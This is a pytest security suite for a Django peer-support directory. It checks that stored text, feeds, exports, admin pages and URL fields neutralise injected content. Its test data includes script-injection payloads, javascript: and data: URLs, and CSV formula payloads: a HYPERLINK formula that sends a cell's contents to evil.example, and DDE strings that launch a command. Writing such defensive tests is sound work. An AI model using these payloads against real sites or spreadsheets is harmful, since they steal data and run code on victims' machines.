"""Script injection in every stored text that a page, feed or export shows: always inert.

Each case stores a payload in one field, the way an editor or a member could, then reads
every page that shows that field. The pages must hold no markup the site did not write
(tests/security/markup.py), show the text escaped, and keep JSON-LD parseable.
"""

import json
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from django.utils.html import escape

from practices.models import Link, PeerSupportType, Reference
from tests.factories import (
    OrganisationFactory,
    PracticeFactory,
    TrainingFactory,
    UserFactory,
    WorkshopFactory,
    make_editor,
)
from trainings.models import Module
from workshops import certificates, services
from workshops.models import AttendanceMode, Facilitator, Kind, RegistrationStatus
from workshops.notifications import cancel_token

from .markup import MARKDOWN_PAYLOADS, PAYLOADS, assert_inert

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"


def practice_with(field: str, payload: str):
    """A published practice with the payload in one of its texts; returns its pages."""
    organisation = OrganisationFactory(
        name=payload if field == "organisation" else "Riverside Peers",
        slug="riverside-peers",
    )
    practice = PracticeFactory(
        title=payload if field == "title" else "Walking group",
        summary=payload if field == "summary" else "Peers walk together.",
        description=payload if field == "description" else "We meet at ten.",
        contact_name=payload if field == "contact_name" else "",
        organisation=organisation,
    )
    if field == "link_title":
        Link.objects.create(practice=practice, title=payload, url="https://example.org/")
    if field == "reference":
        Reference.objects.create(practice=practice, authors=payload, title=payload, journal=payload)
    if field == "term":
        PeerSupportType.objects.filter(slug="peer-listening").update(name=payload)
    # A practice elsewhere, so that this one is shown as similar on its page.
    neighbour = PracticeFactory(title="Neighbour", countries=["NL"])
    return [
        practice.get_absolute_url(),
        neighbour.get_absolute_url(),
        "/practices/",
        "/practices/?q=walking",
        "/practices/?country=HU&type=peer-listening",
    ]


def training_with(field: str, payload: str):
    """A published programme with the payload in one of its texts; returns its pages."""
    programme = TrainingFactory(
        title=payload if field == "title" else "Peer course",
        summary=payload if field == "summary" else "Learn to support peers.",
        description=payload if field == "description" else "Weekly sessions.",
        accredited=True,
        accrediting_body=payload if field == "accrediting_body" else "Board",
        credits=payload if field == "credits" else "",
        prerequisites=payload if field == "prerequisites" else "",
        schedule=payload if field == "schedule" else "",
        provider=OrganisationFactory(
            name=payload if field == "provider" else "Course provider", slug="course-provider"
        ),
    )
    if field == "module":
        Module.objects.create(programme=programme, title=payload, outcomes=payload, hours=2)
    other = TrainingFactory(title="Other course")
    return [
        programme.get_absolute_url(),
        "/trainings/",
        f"/trainings/compare/?p={programme.slug}&p={other.slug}",
    ]


def workshop_with(field: str, payload: str):
    """A hybrid event with the payload in one of its texts; returns its pages."""
    workshop = WorkshopFactory(
        kind=Kind.HYBRID,
        capacity_in_person=5,
        title=payload if field == "title" else "Boundaries webinar",
        summary=payload if field == "summary" else "An hour on boundaries.",
        description=payload if field == "description" else "Bring questions.",
        materials=payload if field == "materials" else "",
        venue_name=payload if field == "venue" else "Town hall",
        venue_address=payload if field == "venue" else "Main street 1",
        city=payload if field == "venue" else "Gent",
        organiser=OrganisationFactory(
            name=payload if field == "organiser" else "Organisers", slug="organisers"
        ),
    )
    if field == "facilitator":
        Facilitator.objects.create(workshop=workshop, name=payload, bio=payload)
    programme = TrainingFactory(title="Linked course")
    workshop.related_trainings.add(programme)
    return [workshop.get_absolute_url(), "/workshops/", programme.get_absolute_url()]


CASES = (
    [("practice", f) for f in ("title", "summary", "organisation", "contact_name")]
    + [("practice", f) for f in ("link_title", "reference", "term")]
    + [("training", f) for f in ("title", "summary", "accrediting_body", "credits")]
    + [("training", f) for f in ("prerequisites", "schedule", "provider", "module")]
    + [("workshop", f) for f in ("title", "summary", "venue", "organiser", "facilitator")]
)
BUILDERS = {"practice": practice_with, "training": training_with, "workshop": workshop_with}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(("kind", "field"), CASES, ids=[f"{k}-{f}" for k, f in CASES])
def test_plain_text_fields_are_shown_escaped_on_every_page(client, kind, field, payload):
    pages = BUILDERS[kind](field, payload)
    shown = False
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_inert(html)
        shown = shown or escape(payload) in html
    # The text is there for readers to see, as text (never rendered as a template).
    assert shown


MARKDOWN_CASES = [
    ("practice", "description"),
    ("training", "description"),
    ("workshop", "description"),
    ("workshop", "materials"),
]


@pytest.mark.parametrize("payload", PAYLOADS + MARKDOWN_PAYLOADS)
@pytest.mark.parametrize(
    ("kind", "field"), MARKDOWN_CASES, ids=[f"{k}-{f}" for k, f in MARKDOWN_CASES]
)
def test_markdown_fields_keep_formatting_and_lose_scripts(client, kind, field, payload):
    (detail, *_rest) = BUILDERS[kind](field, "## Heading\n\n" + payload)
    html = client.get(detail).content.decode()
    assert "<h2>Heading</h2>" in html
    assert_inert(html)


@pytest.mark.parametrize(
    "kind", ["practice", "training", "workshop"], ids=["practice", "training", "workshop"]
)
def test_json_ld_holds_the_payload_as_data_without_breaking_out(client, kind):
    payload = "</script><script>alert(1)</script><!--"
    (detail, *_rest) = BUILDERS[kind]("title", payload)
    html = client.get(detail).content.decode()
    assert_inert(html)
    block = html.split('type="application/ld+json"')[1].split(">", 1)[1].split("</script>")[0]
    assert json.loads(block)["name"] == payload


@pytest.mark.parametrize("kind", ["practice", "training"])
@pytest.mark.parametrize("field", ["title", "summary", "organisation"])
def test_feeds_carry_text_that_a_reader_shows_and_never_runs(client, kind, field):
    payload = "<img src=x onerror=alert(1)><script>alert(1)</script>"
    if field == "organisation":
        field = "organisation" if kind == "practice" else "provider"
    BUILDERS[kind](field, payload)
    feed = ElementTree.fromstring(client.get(f"/{kind}s/feed/").content)  # noqa: S314 (our own feed)
    seen = False
    for element in feed.iter():
        text = element.text or ""
        if element.get("type") == "html":
            # Atom's "html" content is markup once the XML is read: it must be escaped text.
            assert "<" not in text, (element.tag, text)
        elif payload in text:
            seen = True
            assert element.get("type") in (None, "text"), element.tag
    assert seen or field == "summary"


@pytest.mark.parametrize("kind", ["practice", "training"])
def test_open_data_exports_hold_the_payload_as_plain_data(client, kind):
    payload = "<script>alert(1)</script>"
    BUILDERS[kind]("title", payload)
    response = client.get(f"/{kind}s/export.json")
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = json.loads(b"".join(response.streaming_content))
    assert payload in [row["title"] for row in rows]


def registration_for(member, workshop, **kwargs):
    return services.register(
        workshop=workshop,
        member=member,
        mode=AttendanceMode.ONLINE,
        code_of_conduct=True,
        **kwargs,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_members_own_words_are_inert_on_their_pages(client, payload):
    member = UserFactory(display_name=payload, organisation=payload)
    workshop = WorkshopFactory(title=payload)
    registration = registration_for(member, workshop, access_needs_other=payload)
    PracticeFactory(title=payload, submitted_by=member, editor_comment=payload, status="draft")
    client.force_login(member)
    for url in [
        reverse("accounts:profile"),
        reverse("accounts:submissions"),
        reverse("my-workshops:list"),
        reverse("workshops:cancel-link", args=[cancel_token(registration)]),
        workshop.get_absolute_url(),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content.decode())
    assert escape(payload) in client.get(reverse("my-workshops:list")).content.decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_public_certificate_page_shows_names_as_text(client, payload):
    member = UserFactory(display_name=payload)
    workshop = WorkshopFactory(title=payload, organiser=OrganisationFactory(name=payload))
    registration = registration_for(member, workshop)
    registration.status = RegistrationStatus.ATTENDED
    registration.save()
    url = reverse("workshops:certificate", args=[certificates.verification_token(registration)])
    html = client.get(url).content.decode()
    assert "This certificate is genuine" in html
    assert_inert(html)
    assert escape(payload) in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_admin_shows_members_words_as_text(client, payload):
    editor = make_editor(is_superuser=True)
    client.force_login(editor)
    member = UserFactory(display_name=payload, organisation=payload)
    workshop = WorkshopFactory(title=payload)
    registration = registration_for(member, workshop, access_needs_other=payload)
    practice = PracticeFactory(title=payload, proposed_organisation=payload, submitted_by=member)
    for url in [
        "/admin/workshops/registration/",
        f"/admin/workshops/registration/{registration.pk}/change/",
        f"/admin/workshops/workshop/{workshop.pk}/change/",
        "/admin/practices/practice/",
        f"/admin/practices/practice/{practice.pk}/change/",
        "/admin/accounts/user/",
        f"/admin/accounts/user/{member.pk}/change/",
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        # The admin draws its icons as inline SVG and loads its translations from a view.
        assert_inert(
            response.content.decode(),
            allowed_tags={"svg"},
            script_prefixes=("/static/", "/admin/jsi18n/"),
        )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_refused_submission_shows_what_was_typed_as_text(client, member, payload):
    client.force_login(member)
    for url in ("/practices/submit/", "/trainings/submit/"):
        # Missing required fields: the form comes back with the typed values.
        response = client.post(url, {"title": payload, "summary": payload, "description": payload})
        assert response.status_code == 200
        html = response.content.decode()
        assert_inert(html)
        assert escape(payload) in html


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,<script>x</script>"]
)
def test_script_addresses_are_refused_where_members_give_a_web_address(client, member, url):
    from trainings.models import TrainingProgramme

    client.force_login(member)
    response = client.post(
        "/trainings/submit/",
        {"title": "Course", "summary": "A course.", "hours": 10, "enrol_url": url},
    )
    assert response.status_code == 200
    assert "Enter a valid URL." in response.content.decode()
    assert not TrainingProgramme.objects.filter(title="Course").exists()


@pytest.mark.parametrize(
    ("model", "field"),
    [
        ("practices.Link", "url"),
        ("practices.Reference", "url"),
        ("practices.Organisation", "website"),
        ("trainings.TrainingProgramme", "enrol_url"),
        ("workshops.Workshop", "join_url"),
        ("workshops.Workshop", "recording_url"),
    ],
)
def test_every_stored_web_address_refuses_script_schemes(model, field):
    from django.apps import apps
    from django.core.exceptions import ValidationError

    # The admin and the forms validate through the model field: it takes http(s) only.
    model_field = apps.get_model(model)._meta.get_field(field)
    for url in ("javascript:alert(1)", "data:text/html,x", "vbscript:x"):
        with pytest.raises(ValidationError):
            model_field.clean(url, None)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[dict]:
    import csv
    import io

    content = response.streaming_content if response.streaming else [response.content]
    return list(csv.DictReader(io.StringIO(b"".join(content).decode())))


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize(
    ("kind", "field", "column"),
    [
        ("practice", "title", "title"),
        ("practice", "summary", "summary"),
        ("practice", "organisation", "organisation"),
        ("training", "title", "title"),
        ("training", "provider", "organisation"),
    ],
)
def test_open_data_csv_never_starts_a_cell_with_a_formula(client, kind, field, column, formula):
    BUILDERS[kind](field, formula)
    cells = [row[column] for row in csv_rows(client.get(f"/{kind}s/export.csv"))]
    assert "'" + formula in cells
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells if cell)


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_attendee_list_never_starts_a_cell_with_a_formula(client, formula):
    client.force_login(make_editor(is_superuser=True))
    workshop = WorkshopFactory(title=formula)
    registration_for(
        UserFactory(display_name=formula), workshop, access_needs_other=formula.strip()
    )
    response = client.post(
        "/admin/workshops/workshop/",
        {"action": "export_attendees", "_selected_action": [workshop.pk]},
    )
    assert response["Content-Type"].startswith("text/csv")
    (row,) = csv_rows(response)
    assert row["event"] == "'" + formula
    assert row["name"] == "'" + formula
    assert row["access needs"] == "'" + formula.strip()
